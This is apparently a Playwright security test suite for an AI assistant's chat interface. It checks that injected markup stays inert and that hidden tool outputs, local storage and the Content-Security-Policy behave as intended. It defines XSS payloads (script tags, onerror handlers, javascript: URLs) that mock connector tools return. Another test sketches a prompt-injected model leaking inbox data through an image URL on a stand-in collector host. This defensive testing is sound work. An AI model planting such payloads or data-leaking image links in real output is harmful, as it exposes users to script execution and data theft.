"""Model text and tool data cannot run code in the page; hidden tool outputs never reach it;
the page stores nothing but a token and keeps its Content-Security-Policy."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from agents.testing import ScriptedModel, assistant_message, function_call
from playwright.async_api import Browser, Page

from app.settings import Settings
from connectors.responses import ToolResponse
from connectors.tooling import connector_tool
from tests.browser.pages import csp_violations, open_ui, send, wait_turns_ended
from tests.support.browser import DESKTOP
from tests.support.models import scripted
from tests.support.servers import serve

# Each payload bumps window.__xss if it ever runs.
RUN = "window.__xss=(window.__xss||0)+1"
HTML = f'<img src=x onerror="{RUN}"><script>{RUN}</script><svg onload="{RUN}"></svg>'
JS_URL = f"javascript:{RUN}"
MARKDOWN = (
    f'# Title {HTML}\n\n[click me]({JS_URL}) ![pic]({JS_URL}) <a href="{JS_URL}">a</a> '
    f'<iframe src="{JS_URL}"></iframe> <form action="{JS_URL}"><button>go</button></form>'
)


@connector_tool(agent_name="Evil")
async def evil_places(query: str) -> dict[str, Any]:
    """Find places."""
    return ToolResponse(
        "yelp_search_results",
        "Evil",
        f"Places {HTML}",
        [
            {
                "name": HTML,
                "url": JS_URL,
                "image_url": JS_URL,
                "rating": 4,
                "price": HTML,
                "categories": [{"title": HTML}],
                "location": {"display_address": [HTML]},
                "display_phone": HTML,
            }
        ],
        content_chunks=[{"id": "1", "title": HTML, "url": JS_URL, "snippet": HTML}],
    ).to_dict()


@connector_tool(agent_name="Evil")
async def evil_note(query: str) -> dict[str, Any]:
    """Write a note."""
    return ToolResponse(
        "evil_note",
        "Evil",
        HTML,
        {"html": HTML},
        display_as=[{"type": "markdown", "content": MARKDOWN}],
    ).to_dict()


@connector_tool(agent_name="Evil")
async def evil_inbox(query: str) -> dict[str, Any]:
    """Read mail."""
    return ToolResponse(
        "google_email_inbox",
        "Evil",
        "Inbox",
        [
            {
                "from": HTML,
                "to": HTML,
                "subject": HTML,
                "markdown": MARKDOWN,
                "text": HTML,
                "date": HTML,
                "unread": True,
            }
        ],
    ).to_dict()


@connector_tool(agent_name="Evil")
async def evil_link(query: str) -> dict[str, Any]:
    """Open a link."""
    return ToolResponse("open_tab", "Evil", "Open", {"url": JS_URL}).to_dict()


ANSWER = f"Here you go {HTML} [click me too]({JS_URL}) and a source [1]. {MARKDOWN}"


async def inert(page: Page) -> None:
    """Nothing ran, and nothing that could run is in the conversation."""
    assert await page.evaluate("() => window.__xss") is None
    found = await page.evaluate("""() => {
        const root = document.getElementById('transcript');
        const all = [...root.querySelectorAll('*')];
        return {
            dangerous: all.filter(el => ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'FORM', 'STYLE']
                .includes(el.tagName)).map(el => el.tagName),
            handlers: all.flatMap(el => [...el.attributes].filter(a => a.name.startsWith('on'))
                .map(a => el.tagName + ' ' + a.name)),
            links: [...root.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))
                .filter(href => !/^(https?:|mailto:)/i.test(href)),
            images: [...root.querySelectorAll('img[src]')].map(i => i.getAttribute('src'))
                .filter(src => !/^(https:|data:image\\/)/i.test(src)),
            blankWithoutNoopener: [...root.querySelectorAll('a[target=_blank]')]
                .filter(a => !/noopener/.test(a.rel) || !/noreferrer/.test(a.rel)).length,
        };
    }""")
    assert found == {
        "dangerous": [],
        "handlers": [],
        "links": [],
        "images": [],
        "blankWithoutNoopener": 0,
    }


async def test_xss_in_tool_results_and_model_text_stays_inert(
    ui_settings: Callable[..., Settings], page: Page
) -> None:
    model = ScriptedModel(
        [
            [
                function_call("evil_places", {"query": "x"}, call_id="c1"),
                function_call("evil_note", {"query": "x"}, call_id="c2"),
                function_call("evil_inbox", {"query": "x"}, call_id="c3"),
                function_call("evil_link", {"query": "x"}, call_id="c4"),
            ],
            [assistant_message(ANSWER)],
        ]
    )
    hook = scripted(model, [evil_places, evil_note, evil_inbox, evil_link])
    async with serve(ui_settings(), hooks=(hook,)) as live:
        await open_ui(page, live.http)
        await send(page, "show me everything")
        await wait_turns_ended(page, 1)
        assert await page.locator("#transcript .card").count() == 4
        # Open every email, so their bodies are rendered too, and click the would-be links.
        for summary in await page.locator("#transcript details > summary").all():
            await summary.click()
        for text in ("click me", "click me too"):
            await page.get_by_text(text, exact=True).first.click()
        await inert(page)
        # The markup is shown as the text it is, not dropped silently.
        answer = await page.locator("#transcript .message.assistant").inner_text()
        assert "<script>" in answer and "onerror" in answer
        title = await page.locator("#transcript .card-evil_note .card-title").inner_text()
        assert title == HTML

        await page.reload()
        await wait_turns_ended(page, 1)
        await inert(page)


LEAK = "https://collector.example/pixel.png?inbox=wire-transfer-code-123"


async def test_pictures_in_model_text_are_links_never_fetched(
    ui_settings: Callable[..., Settings], page: Page
) -> None:
    # A model steered by a malicious email could write a picture whose address carries
    # the user's data; rendering it would send that data out without a click.
    model = ScriptedModel([[assistant_message(f"Done. ![logo]({LEAK})")]])
    fetched: list[str] = []
    page.on("request", lambda request: fetched.append(request.url))
    async with serve(ui_settings(), hooks=(scripted(model, []),)) as live:
        await open_ui(page, live.http)
        await send(page, "summarise my inbox")
        await wait_turns_ended(page, 1)
        message = page.locator("#transcript .message.assistant")
        assert await message.locator("img").count() == 0
        link = message.get_by_role("link", name="logo")
        assert await link.get_attribute("href") == LEAK
        assert await link.get_attribute("rel") == "noopener noreferrer"
    assert not [url for url in fetched if "collector.example" in url]


HIDDEN = "HIDDEN-7f3a9c"
VISIBLE = "VISIBLE-2b8e41"


@connector_tool(agent_name="Quiet")
async def locate_user() -> dict[str, Any]:
    """Where the user is."""
    return ToolResponse(
        "user_location", "Quiet", "Finding you", {"marker": HIDDEN}, display_response=False
    ).to_dict()


@connector_tool(agent_name="Quiet")
async def weather() -> dict[str, Any]:
    """The weather."""
    return ToolResponse("text", "Quiet", "Weather", f"Sunny, {VISIBLE}").to_dict()


async def test_hidden_tool_outputs_never_reach_the_page(
    ui_settings: Callable[..., Settings], page: Page
) -> None:
    model = ScriptedModel(
        [
            [function_call("locate_user", {}, call_id="h1")],
            [function_call("weather", {}, call_id="v1")],
            [assistant_message("It is sunny where you are.")],
        ]
    )
    async with serve(ui_settings(), hooks=(scripted(model, [locate_user, weather]),)) as live:
        await open_ui(page, live.http)
        await send(page, "weather here?")
        await wait_turns_ended(page, 1)
        html = await page.content()
        assert VISIBLE in html and HIDDEN not in html
        # The hidden call shows as a finished step, with no card.
        row = page.locator("#transcript .tool-row[data-tool=locate_user]")
        assert await row.get_attribute("class") == "tool-row done"
        assert await page.locator("#transcript .card").count() == 1

        await page.reload()
        await wait_turns_ended(page, 1)
        html = await page.content()
        assert VISIBLE in html and HIDDEN not in html


async def test_local_storage_holds_nothing_in_local_mode(live: Any, page: Page) -> None:
    await open_ui(page, live.http)
    await send(page, "what's in my inbox")
    await wait_turns_ended(page, 1)
    assert await page.evaluate("() => Object.keys(localStorage)") == []
    assert await page.evaluate("() => Object.keys(sessionStorage)") == []


async def test_the_page_runs_under_its_content_security_policy(live: Any, browser: Browser) -> None:
    async with live.client() as http:
        response = await http.get("/")
    policy = response.headers["content-security-policy"]
    for directive in (
        "default-src 'self'",
        "script-src 'self'",
        "object-src 'none'",
        "frame-ancestors 'none'",
        "base-uri 'none'",
    ):
        assert directive in policy
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
    assert response.headers["x-content-type-options"] == "nosniff"

    # Enforced (no bypass): a whole turn runs with no violation reported.
    context = await browser.new_context(viewport=DESKTOP)
    try:
        page = await context.new_page()
        violations = csp_violations(page)
        await page.goto(live.http + "/")
        await page.fill("#prompt", "find sushi in Boston and email the list to bob@example.com")
        await page.press("#prompt", "Enter")
        # The approval card works under the policy too (no inline script or style).
        card = page.locator("#transcript .approval[data-state=pending]")
        await card.get_by_role("button", name="Approve").click(timeout=10_000)
        await page.locator("#transcript .turn .chips .chip").first.wait_for(timeout=10_000)
        assert await page.locator("#transcript .card").count() == 2
        assert await page.locator("#transcript .approval[data-state=approved]").count() == 1
        assert violations == []
    finally:
        await context.close()
